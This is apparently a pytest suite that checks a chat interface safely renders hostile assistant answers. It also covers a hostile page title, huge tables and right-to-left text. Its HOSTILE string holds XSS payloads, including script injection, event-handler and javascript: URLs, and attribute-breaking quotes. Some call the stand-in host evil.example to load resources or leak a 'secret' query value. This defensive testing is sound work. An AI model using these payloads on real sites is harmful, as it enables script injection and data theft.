"""Hostile answers: they must not load or run anything, and must not break the page."""

from __future__ import annotations

import pytest

from tests.support.browser import Chat
from tests.support.web_server import Server, says

HOSTILE = """\
</textarea></script><script>window.ran = 1; fetch("https://evil.example/1")</script>
<img src="https://evil.example/2.png" onerror="window.ran = 2">
<svg onload="window.ran = 3"><style>@import url(https://evil.example/3.css)</style>
<iframe src="https://evil.example/4"></iframe><link rel="prefetch" href="https://evil.example/5">
<meta http-equiv="refresh" content="0;url=https://evil.example/6"><base href="https://evil.example/">

![tracked](https://evil.example/7.png?q=secret) ![x](data:image/svg+xml,<svg/onload=alert(1)>)
[![inner](https://evil.example/8.png)](https://evil.example/9)

[run](javascript:window.ran=4) [run](JaVaScRiPt:window.ran=5) [run](java&#10;script:window.ran=6)
[run](\x01javascript:window.ran=7) [run](data:text/html,<script>window.ran=8</script>) [run](vbscript:x)
[run](//evil.example/10) [run](/web/app.js) [run](file:///etc/passwd) [run](blob:x) <javascript:alert(1)>
[go"onclick="window.ran=9](https://evil.example/11"onmouseover="window.ran=10) https://evil.example/12"onclick="x

```html"onclick="window.ran=11
<script>window.ran = 12</script>
```

| <img src=https://evil.example/13> | b |
|---|---|
| `<script>window.ran=13</script>` | [c](javascript:window.ran=14) |

[ref]: https://evil.example/14
&lt;script&gt;window.ran=15&lt;/script&gt;
"""
BLOCKS = "DIV P UL OL LI H3 H4 H5 H6 PRE CODE BLOCKQUOTE HR TABLE THEAD TBODY TR TH TD"
SPANS = "BR SPAN STRONG EM DEL A BUTTON SVG USE"


@pytest.mark.parametrize("size", [7, len(HOSTILE)], ids=["in pieces", "at once"])
def test_hostile_answer_loads_and_runs_nothing(chat: Chat, server: Server, size: int) -> None:
    pieces = [HOSTILE[start : start + size] for start in range(0, len(HOSTILE), size)]
    server.will_say(says(*pieces))
    chat.ask(HOSTILE)
    chat.page.get_by_text("window.ran=15").last.wait_for()
    body = chat.page.locator("article.assistant .body")
    tags = set(body.evaluate("body => [...body.querySelectorAll('*')].map(one => one.tagName.toUpperCase())"))
    assert tags <= {*BLOCKS.split(), *SPANS.split()}
    names = set(body.evaluate("body => [...body.querySelectorAll('*')].flatMap(one => one.getAttributeNames())"))
    assert not {name for name in names if name.startswith("on") or name in ("src", "style", "srcset", "ping")}
    links = body.locator("a").evaluate_all("links => links.map(link => [link.protocol, link.rel, link.target])")
    assert links and {tuple(link) for link in links} == {("https:", "noopener noreferrer", "_blank")}
    assert chat.page.evaluate("window.ran") is None
    chat.page.locator("article.user").get_by_role("button", name="Edit").click()  # into a textarea
    assert chat.page.get_by_label("Edit the text").input_value() == HOSTILE
    # The fixture asserts that nothing was loaded and that the policy was not violated.


def test_hostile_title(chat: Chat, server: Server) -> None:
    chat.ask("<img src=https://evil.example/1 onerror=window.ran=1>")
    chat.page.get_by_role("link", name="<img src=").wait_for()
    assert chat.page.evaluate("window.ran") is None
    assert chat.page.title().startswith("<img src=")


def test_huge_table_and_long_answer(chat: Chat, server: Server) -> None:
    table = "|" + " a |" * 60 + "\n|" + "---|" * 60 + "\n" + ("|" + " 1 |" * 60 + "\n") * 100
    words = "".join(f"Paragraph {number} of *many*.\n\n" for number in range(3000))
    text = f"{table}\n{words}```\n{'x' * 200}\n" + "y\n" * 2000
    server.will_say(says(*[text[start : start + 997] for start in range(0, len(text), 997)]))
    chat.ask("Long")
    body = chat.page.locator("article.assistant .body")
    assert body.locator("tbody tr").count() == 100
    assert body.locator("p").count() == 3000
    assert (body.locator("pre").text_content() or "").count("y") == 2000
    assert chat.page.evaluate("document.documentElement.scrollWidth") == 1280


def test_right_to_left_answers(chat: Chat, server: Server) -> None:
    server.will_say(says("שלום, מה שלומך?\n\n- אחת\n- שתיים\n\nAnd English."))
    chat.ask("Hebrew?")
    chat.wait_for("And English.")
    directions = chat.page.locator("article.assistant .body > *").evaluate_all(
        "blocks => blocks.map(block => getComputedStyle(block).direction)"
    )
    assert directions == ["rtl", "rtl", "ltr"]
